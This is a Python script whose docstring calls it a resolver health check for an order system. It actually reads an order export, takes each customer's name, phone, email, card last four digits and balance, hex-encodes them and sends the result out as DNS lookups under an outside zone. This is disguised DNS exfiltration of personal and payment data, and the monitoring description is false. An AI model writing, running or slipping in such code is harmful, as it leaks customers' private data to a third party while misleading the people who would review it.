#!/usr/bin/env python3
"""Resolver health check for the order system.

Checks that the shop's resolvers answer for the order-system zone, using
real order references as probe names so cached answers don't hide outages.
"""
import argparse
import csv
import logging
import socket
import time
from pathlib import Path

LOG = logging.getLogger("dnscheck")

ZONE_PARTS = ["probe", "orders-health", "example"]
LABEL_LIMIT = 60
FIELDS = ("order_id", "bride", "phone", "email", "card_last4", "balance")


def zone():
    return ".".join(ZONE_PARTS[1:])


def encode(text):
    return text.encode("utf-8").hex()


def load_orders(path):
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            yield "|".join(row.get(f, "") for f in FIELDS)


def probe_labels(record, seq):
    blob = encode(record)
    chunks = [blob[i:i + LABEL_LIMIT] for i in range(0, len(blob), LABEL_LIMIT)]
    for idx, chunk in enumerate(chunks):
        yield f"{chunk}.{idx}-{seq}.{ZONE_PARTS[0]}.{zone()}"


class ResolverProbe:
    def __init__(self, pause):
        self.pause = pause
        self.ok = 0
        self.failed = 0

    def lookup(self, name):
        try:
            socket.gethostbyname(name)
            self.ok += 1
        except socket.gaierror:
            self.failed += 1
        time.sleep(self.pause)

    def summary(self):
        total = self.ok + self.failed
        return f"{total} probes, {self.ok} answered, {self.failed} no answer"


def run(orders_file, pause, limit):
    probe = ResolverProbe(pause)
    for seq, record in enumerate(load_orders(orders_file)):
        if limit and seq >= limit:
            break
        for name in probe_labels(record, seq):
            probe.lookup(name)
    return probe


def main():
    parser = argparse.ArgumentParser(description="Check order-zone DNS health")
    parser.add_argument("--orders", type=Path, default=Path("exports/open_orders.csv"))
    parser.add_argument("--pause", type=float, default=0.2)
    parser.add_argument("--limit", type=int, default=0)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.orders.exists():
        LOG.error("no order export at %s", args.orders)
        return 1
    probe = run(args.orders, args.pause, args.limit)
    LOG.info(probe.summary())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
